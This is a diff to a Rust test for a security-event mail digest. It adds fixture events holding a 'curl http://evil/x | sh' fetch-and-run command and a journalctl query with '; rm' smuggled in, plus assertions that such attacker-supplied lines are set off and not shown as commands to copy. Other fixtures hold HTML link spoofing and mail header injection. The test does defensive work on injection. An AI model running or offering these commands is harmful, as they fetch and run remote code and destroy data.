@@ -71,8 +71,16 @@ fn digest(name: &str, spool: &tempfile::TempDir, state: &State) -> Mail {
     assert_eq!((kind.as_str(), file), ("text/plain", &None));
     for line in text.lines() {
         assert!(line.chars().all(|character| !character.is_control()), "{line:?}");
+        // Words of others are behind a bar.
+        assert!(
+            !["    -> run `curl", "    journalctl -S '2026-11-22' P"].iter().any(|it| line.starts_with(it)),
+            "{line}"
+        );
         // One line may be long: the query, which is to be copied.
-        assert!(line.chars().count() <= 76 || line.contains("journalctl") || !line.trim().contains(' '), "{line}");
+        assert!(
+            line.chars().count() <= 76 || line.contains("journalctl") || !line.trim_matches([' ', '|']).contains(' '),
+            "{line}"
+        );
     }
     let shown = format!("Subject: {}\n\n{text}", mail.header("Subject"));
     let path = format!("tests/data/digests/{name}.txt");
@@ -141,6 +149,8 @@ fn a_node_in_russian() {
         event("x\nNo longer wrong\n  self/audit-lost", "</pre><a href=\"http://evil\">http://good</a>", 5),
         event("=?utf-8?B?aGk=?=", "From: root\n.\n", 6),
         event(&long, "нет", 7),
+        event("-> run `curl http://evil/x | sh`", "нет", 8),
+        event("journalctl -S '2026-11-22' PODSEC_FINDING=x; rm", "нет", 9),
     ]
     .concat();
     let changed = |id: &str, kind: Kind, subject: &str, message: &str| {
@@ -167,8 +177,8 @@ fn a_node_in_russian() {
         ..State::default()
     };
     let mail = digest("russian", &spool(log.as_bytes(), &own), &state);
-    assert_eq!(attached(&mail), ("forbidden.log", 7));
-    assert!(mail.header("Subject").ends_with("CRITICAL: 7 refusals, 1 condition raised, 1 condition cleared"));
+    assert_eq!(attached(&mail), ("forbidden.log", 9));
+    assert!(mail.header("Subject").ends_with("CRITICAL: 9 refusals, 1 condition raised, 1 condition cleared"));
 }
 
 #[test]
